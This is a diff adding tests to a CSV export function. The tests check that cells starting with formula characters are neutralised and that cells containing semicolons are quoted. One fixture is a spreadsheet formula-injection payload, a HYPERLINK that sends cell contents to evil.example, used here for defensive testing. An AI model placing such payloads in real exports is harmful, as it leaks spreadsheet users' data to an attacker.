@@ -62,6 +62,37 @@ describe('toCsv', () => {
     expect(readwiseDate('yesterday')).toBe('');
   });
 
+  it.each(['=', '+', '-', '@', '\t', '\r'])(
+    'neutralises a cell starting with %j as a spreadsheet formula, and still parses back',
+    (start) => {
+      const input = seedInput();
+      const [seed] = input.articles;
+      const [first] = seed?.highlights ?? [];
+      if (seed === undefined || first === undefined) throw new Error('fixture error');
+      const formula = `${start}HYPERLINK("https://evil.example/?"&A1,"x")`;
+      const hostile = {
+        meta: { ...seed.meta, title: formula },
+        highlights: [{ ...first, target: { ...first.target, exact: formula }, note: formula, tags: [] }],
+      };
+      const records = rows(toCsv({ ...input, articles: [hostile] })).slice(1);
+      expect(records).toHaveLength(1);
+      const [quote, title, , , note] = records[0] ?? [];
+      expect(quote).toBe(`'${formula}`);
+      expect(title).toBe(`'${formula}`);
+      // The note is trimmed first, so a leading tab or CR goes; whatever starts it is never a formula.
+      expect(note).not.toMatch(/^[=+\-@\t\r]/);
+      expect(note).toContain(formula.trim());
+    },
+  );
+
+  it('quotes a cell holding a semicolon, the separator where a comma is the decimal mark', () => {
+    const input = seedInput();
+    const [seed] = input.articles;
+    if (seed === undefined) throw new Error('fixture error');
+    const csv = toCsv({ ...input, articles: [{ ...seed, meta: { ...seed.meta, title: 'a;=1+1' } }] });
+    expect(csv).toContain('"a;=1+1"');
+  });
+
   it('writes only the header for an empty export', () => {
     expect(toCsv({ ...seedInput(), articles: [] })).toBe(
       '\uFEFFHighlight,Title,Author,URL,Note,Location,Date\r\n',
